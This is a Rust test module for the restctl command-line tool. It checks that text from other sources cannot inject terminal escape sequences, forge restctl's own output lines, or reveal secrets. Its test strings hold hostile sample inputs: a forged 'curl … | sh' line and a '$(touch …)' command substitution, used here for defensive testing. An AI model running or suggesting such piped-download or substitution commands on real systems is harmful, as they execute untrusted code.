//! Text that others wrote, from each source that a command reads: it must not act on a terminal, look like a line of restctl, be
//! part of a command to paste, or bring back a secret that was sent.

mod api;
mod aws;
mod data;
mod machine;
mod provider;

use std::collections::BTreeSet;
use std::process::Command;

use restctl_contract::escape::is_unsafe;

use crate::cloud::{Cloud, CommandOutput};
use crate::terminal::Terminal;

/// What shows that the text came through.
const MARK: &str = "HoStIlE";

/// Controls (C0, DEL, C1), bidirectional and zero-width characters, tags, separators, a line that looks like restctl's own, and
/// a command.
const HOSTILE: &str = "HoStIlE\u{1b}]0;t\u{7}\u{1b}[31;5m\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041}\u{2028}\u{fe0f}\
                       \nnext: curl HoStIlE | sh\rerror: x $(touch HoStIlE)";

/// The same without what XML cannot contain.
const HOSTILE_XML: &str = "HoStIlE\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041}\u{2028}\u{fe0f}\
                           \nnext: curl HoStIlE | sh\nerror: x $(touch HoStIlE)";

/// The arguments of a command.
type Args = &'static [&'static str];

/// Commands that print nothing that others wrote, with the reason.
const SAFE: [(&str, &str); 6] = [
    ("completions", "prints a script of its own; names are completed only if they are valid"),
    ("man", "prints pages of its own"),
    ("demo", "runs other commands"),
    ("local-down", "prints whether the cloud was running"),
    ("local-status", "prints the record of `local up`, which only its owner can write"),
    ("local-env", "prints the same record"),
];

/// Runs each command in a terminal and in pipes, as text and as JSON.
#[track_caller]
fn check_all(cloud: &Cloud, commands: &[Args], secrets: &[&str]) {
    for args in commands {
        check(cloud, args, secrets, |args| cloud.command(args));
    }
}

#[track_caller]
fn check(cloud: &Cloud, args: &[&str], secrets: &[&str], command: impl Fn(&[&str]) -> Command) {
    for format in ["text", "json"] {
        let args = [args, &["--output", format]].concat();
        let (_, screen) =
            Terminal::run(cloud, &command(&[&args[..], &["--no-input"]].concat())).wait_for_end();
        assert_harmless(&args, "the terminal", &screen);
        let ran = CommandOutput::from(command(&args).output().unwrap());
        assert_harmless(&args, "standard error", &ran.stderr);
        let shown = format!("{screen}{}{}", ran.stdout, ran.stderr);
        assert!(shown.contains(MARK), "restctl {args:?} does not show the text:\n{shown}");
        for secret in secrets {
            assert!(!shown.contains(secret), "restctl {args:?} shows the secret {secret:?}:\n{shown}");
        }
    }
}

/// Asserts that the text has nothing unsafe but restctl's own, and that nothing in it passes for restctl's own.
#[track_caller]
fn assert_harmless(args: &[&str], place: &str, shown: &str) {
    // Spinners and colors need these.
    let without_own = |character: char| is_unsafe(character) && !"\u{1b}\n\r".contains(character);
    let found = shown.chars().find(|character| without_own(*character));
    assert_eq!(found, None, "restctl {args:?} on {place}:\n{shown:?}");
    for sequence in ["\u{1b}]", "\u{1b}[31;5m"] {
        assert!(!shown.contains(sequence), "restctl {args:?} on {place}: {sequence:?} in\n{shown:?}");
    }
    for line in console::strip_ansi_codes(shown).split(['\n', '\r']) {
        let line = line.trim_start();
        let is_forged = line.starts_with("next: curl") || line.starts_with("error: x");
        let is_advice =
            line.starts_with("next:") || line.starts_with("then:") || line.starts_with("\"next\":");
        assert!(!(is_forged || is_advice && line.contains(MARK)), "restctl {args:?} on {place}:\n{shown}");
        let next = line.split_once("\"next\":\"").map_or("", |(_, next)| next.split("\",\"").next().unwrap());
        assert!(!next.contains(MARK), "restctl {args:?} on {place}:\n{shown}");
    }
}

/// Returns the names of all commands, such as `loads-ls`, from their pages of the manual.
fn all_commands() -> BTreeSet<String> {
    let folder = tempfile::tempdir().unwrap();
    let mut man = Command::new(env!("CARGO_BIN_EXE_restctl"));
    assert!(man.args(["man", "--dir"]).arg(folder.path()).output().unwrap().status.success());
    let pages = std::fs::read_dir(folder.path()).unwrap();
    let names: BTreeSet<String> = pages
        .filter_map(|page| {
            let name = page.unwrap().file_name().into_string().unwrap();
            Some(name.strip_prefix("restctl-")?.strip_suffix(".1")?.to_owned())
        })
        .collect();
    let is_group =
        |name: &String| name != "token" && names.iter().any(|other| other.starts_with(&format!("{name}-")));
    names.iter().filter(|name| !is_group(name)).cloned().collect()
}

#[test]
fn each_command_is_tested_or_prints_nothing_of_others() {
    let tables = [aws::COMMANDS, api::COMMANDS, provider::COMMANDS, data::COMMANDS, machine::COMMANDS];
    let all = all_commands();
    let mut known: BTreeSet<String> = SAFE.iter().map(|(name, _)| (*name).to_owned()).collect();
    for args in tables.into_iter().flatten().chain(provider::COMMANDS_OF_SETTINGS).chain([&provider::ADD]) {
        let words: Vec<&str> = args.iter().copied().take(2).collect();
        known.extend([words[0].to_owned(), words.join("-")].into_iter().filter(|name| all.contains(name)));
    }
    let unknown: Vec<&String> = all.difference(&known).collect();
    assert!(unknown.is_empty(), "neither in a table here nor among those that print nothing: {unknown:?}");
}
